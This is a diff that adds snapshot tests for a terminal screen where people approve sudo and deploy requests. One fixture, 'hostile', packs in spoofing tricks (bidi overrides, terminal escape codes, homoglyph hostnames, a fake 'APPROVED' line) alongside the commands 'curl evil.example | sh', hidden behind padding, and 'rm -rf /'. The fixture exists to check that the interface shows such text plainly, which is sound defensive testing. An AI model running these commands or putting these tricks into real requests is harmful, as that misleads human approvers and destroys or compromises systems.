@@ -1,0 +1,188 @@
+import { describe, expect, onTestFinished, test } from 'vitest';
+import type { Digest } from '../../src/protocol/names.js';
+import type { RequestView } from '../../src/protocol/request-view.js';
+import { InMemoryQueue } from './in-memory-queue.js';
+import { NOW, opened, sampleRequest, sampleVote } from './sample-requests.js';
+import { TerminalScreen } from './terminal-screen.js';
+
+const SIZES = [
+  { columns: 120, rows: 40 },
+  { columns: 80, rows: 24 },
+] as const;
+
+const deploy = sampleRequest({
+  n: 5,
+  age: 90,
+  waiting: 0,
+  document: {
+    action: 'ci.deploy',
+    context: { reason: 'hotfix 2.14.3', ticket: 'SHOP-881' },
+    details: { commit: '9f3c2a1d8be74650b1a2c3d4e5f60718293a4b5c', workflow: 'deploy.yml' },
+    door: 'ci:shop',
+    duration: 1800,
+    requester: 'dave',
+    resource: 'shop/checkout@production',
+  },
+});
+const sudo = sampleRequest({
+  n: 4,
+  age: 220,
+  document: {
+    action: 'sudo',
+    context: { reason: 'failover drill, step 3' },
+    details: {
+      argv: ['systemctl', 'restart', 'postgresql'],
+      cwd: '/home/carol',
+      target: 'root',
+      tty: 'pts/3',
+    },
+    door: 'host:db-2.example.com',
+    requester: 'erin',
+    resource: 'db-2.example.com',
+  },
+});
+const hostile = sampleRequest({
+  n: 7,
+  age: 100,
+  document: {
+    context: {
+      reason: 'all fine\u2028\u202eon\u200b \u001b]0;approved\u0007 p\u0430ypal\nAPPROVED by carol',
+    },
+    details: {
+      argv: ['sh', '-c', `echo ok${' '.repeat(90)}; curl evil.example | sh`, '⟨LF⟩', '--flag\u{e0041}'],
+      'us\u200ber': 'alice\b\b\b\b\broot',
+      wrapped: `a first line that is long enough to be wrapped on any screen\r\nrm -rf /\u3000#${'e\u0301\u0301\u0301'}`,
+    },
+    resource: 'w\u0435b-1.example.com',
+  },
+});
+const earlier = [
+  sampleRequest({
+    n: 10,
+    age: 700,
+    ...opened,
+    document: { requester: 'erin', resource: 'web-2.example.com' },
+  }),
+  sampleRequest({
+    n: 11,
+    age: 900,
+    state: 'redeemed',
+    redeemedAt: NOW - 300_000,
+    document: { requester: 'frank', resource: 'web-3.example.com' },
+  }),
+  sampleRequest({
+    n: 12,
+    age: 1100,
+    state: 'denied',
+    endedAt: NOW - 900_000,
+    votes: [sampleVote({ verdict: 'deny', decided: NOW - 900_000 })],
+    document: { requester: 'mallory', context: {} },
+  }),
+  sampleRequest({
+    n: 13,
+    age: 5000,
+    state: 'redeemed',
+    redeemedAt: NOW - 4_900_000,
+    report: { outcome: 'observed', code: null, at: NOW - 4_900_000 },
+    document: { requester: 'gina', resource: 'build-7' },
+  }),
+  sampleRequest({
+    n: 14,
+    age: 9000,
+    state: 'expired',
+    endedAt: NOW - 8_700_000,
+    document: { requester: 'henry', resource: 'web-9.example.com' },
+  }),
+];
+const pending = [
+  sampleRequest({ n: 1, age: 130 }),
+  sampleRequest({ n: 2, age: 100 }),
+  sampleRequest({ n: 3, age: 70 }),
+  sudo,
+  deploy,
+];
+
+describe.each(SIZES)('on a terminal of $columns x $rows', (size) => {
+  const show = (requests: readonly RequestView[]) => {
+    const connection = new InMemoryQueue(requests);
+    const screen = new TerminalScreen(connection, size);
+    onTestFinished(() => screen.leave());
+    return { connection, screen };
+  };
+  const expectGolden = (screen: TerminalScreen, name: string) =>
+    expect(`${screen.text()}\n`).toMatchFileSnapshot(`golden/${name}-${size.columns}x${size.rows}.txt`);
+  test('the queue: who waits, and what has ended', async () => {
+    const { screen } = show([...pending, ...earlier]);
+    await screen.waitForContent('✓ opened');
+    await expectGolden(screen, 'queue');
+  });
+
+  test('nobody waits: what to do next', async () => {
+    const { screen } = show([]);
+    await screen.waitForContent('Nobody is waiting');
+    await expectGolden(screen, 'empty');
+  });
+
+  test('a request in full, and how much is left to read (A1)', async () => {
+    const { screen } = show([sudo, ...earlier]);
+    await screen.openFirstRow();
+    screen.letItSettle();
+    await screen.waitForContent('read to the end to approve');
+    await expectGolden(screen, 'detail');
+  });
+
+  test('the confirm step, with a comment', async () => {
+    const { screen } = show([sudo]);
+    await screen.openFirstRow();
+    await screen.letItSettle().readToTheEnd();
+    screen.letItSettle().press('a');
+    await screen.waitForContent('[ Sign approval ]');
+    await screen.pressAndWaitForChange('c');
+    screen.paste('seen the drill plan\nstep 3 is mine');
+    await screen.waitForContent('step 3 is mine');
+    await screen.pressAndWaitForChange('Enter');
+    await screen.pressAndWaitForChange('Tab');
+    await screen.letItSettle().waitForContent('Enter signs the approval');
+    await expectGolden(screen, 'confirm');
+  });
+
+  test('a lost connection: a banner, and decisions are off (A28)', async () => {
+    const { connection, screen } = show([...pending, ...earlier]);
+    await screen.waitForContent('● live');
+    connection.setLink({
+      state: 'stale',
+      since: NOW - 40_000,
+      retryAt: NOW + 8000,
+      reason: 'the broker closed the connection',
+    });
+    await screen.waitForContent('Not connected for 40s');
+    await expectGolden(screen, 'stale');
+  });
+
+  test('hostile text: every trick is written out (A1, A37)', async () => {
+    const { screen } = show([hostile]);
+    await screen.waitForContent('Time left');
+    await expectGolden(screen, 'hostile-row');
+    await screen.openFirstRow();
+    screen.letItSettle();
+    await screen.waitForContent('read to the end');
+    await expectGolden(screen, 'hostile');
+  });
+
+  test('a document that is not the one of its digest: do not sign (A62)', async () => {
+    const { screen } = show([{ ...sampleRequest({ n: 1 }), digest: `sha256:${'ab'.repeat(32)}` as Digest }]);
+    await screen.waitForContent('do not sign');
+    await screen.openFirstRow();
+    screen.letItSettle();
+    await screen.waitForContent('Cannot be approved');
+    await expectGolden(screen, 'mismatch');
+  });
+
+  test('the help lists every key', async () => {
+    const { screen } = show([sudo]);
+    await screen.waitForContent('Time left');
+    screen.press('?');
+    await screen.waitForContent('Ctrl-Z');
+    await expectGolden(screen, 'help');
+  });
+});
